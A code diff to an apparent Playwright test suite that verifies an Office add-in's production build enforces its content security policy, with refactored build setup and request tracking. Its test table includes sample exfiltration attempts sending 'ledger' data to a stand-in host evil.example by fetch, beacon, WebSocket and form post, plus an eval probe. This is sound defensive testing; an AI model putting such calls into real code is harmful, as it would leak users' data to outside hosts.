@@ -2,13 +2,12 @@
  * The build that ships, in a browser, under its own content policy: a whole run speaks to our origin and to the host
  * of office.js alone; what a ledger holds is shown as text; script that is not ours does not run.
  */
-import { execFileSync } from 'node:child_process';
-import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs';
-import { tmpdir } from 'node:os';
+import { existsSync, readFileSync, readdirSync } from 'node:fs';
 import path from 'node:path';
 import type { Browser, BrowserContext } from 'playwright-core';
 import { hostileWorkbook } from '../security/hostile-workbook';
 import { launch, openPage, type OpenedPage } from './support/browser';
+import { BUILD_MILLISECONDS, productionBuild } from './support/build';
 import { PaneWalk } from './support/walk';
 
 const root = path.join(__dirname, '../..');
@@ -18,21 +17,19 @@ const TYPES: Readonly<Record<string, string>> = { '.html': 'text/html', '.js': '
 let browser: Browser;
 let folder: string;
 beforeAll(async () => {
-  folder = mkdtempSync(path.join(tmpdir(), 'duesheet-'));
-  execFileSync(process.execPath, [path.join(root, 'node_modules/webpack-cli/bin/cli.js'), '--mode', 'production', '--output-path', folder, '--stats', 'errors-only'], { cwd: root });
+  folder = productionBuild();
   browser = await launch();
-}, 180_000);
-afterAll(async () => {
-  await browser?.close();
-  rmSync(folder, { recursive: true, force: true });
-});
+}, BUILD_MILLISECONDS);
+afterAll(() => browser?.close());
 
 jest.setTimeout(180_000);
 
 /** Serves the production build in place of the development one, and Microsoft's host from the package. */
 async function serveBuild(context: BrowserContext): Promise<string[]> {
   const requested: string[] = [];
-  context.on('request', (request) => requested.push(request.url()));
+  // What the policy stops before it leaves the page is no request.
+  context.on('requestfinished', (request) => requested.push(request.url()));
+  context.on('requestfailed', (request) => request.failure()?.errorText !== 'csp' && requested.push(request.url()));
   const fulfil = (file: string) => ({ body: readFileSync(file), contentType: TYPES[path.extname(file)] ?? 'application/octet-stream' });
   await context.route(`${process.env.DUESHEET_ORIGIN}/**`, (route) => {
     const file = path.join(folder, new URL(route.request().url()).pathname);
@@ -85,7 +82,7 @@ describe('the production build', () => {
     ['a request to another host', () => void fetch('https://evil.example/?ledger').catch(() => undefined)],
     ['a beacon to another host', () => void navigator.sendBeacon('https://evil.example/', 'ledger')],
     ['a socket to another host', () => void new WebSocket('wss://evil.example/')],
-    ['evaluated text', () => { try { (0, eval)('window.hacked = 1'); } catch { /* Refused, as it should be. */ } }],
+    ['evaluated text', () => void setTimeout(() => { try { (0, eval)('window.hacked = 1'); } catch { /* Refused, as it should be. */ } })],
     ['a form', () => { const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' }); document.body.append(form); form.submit(); }],
   ])('does not run or reach %s', async (_, attempt) => {
     const before = requested.length;
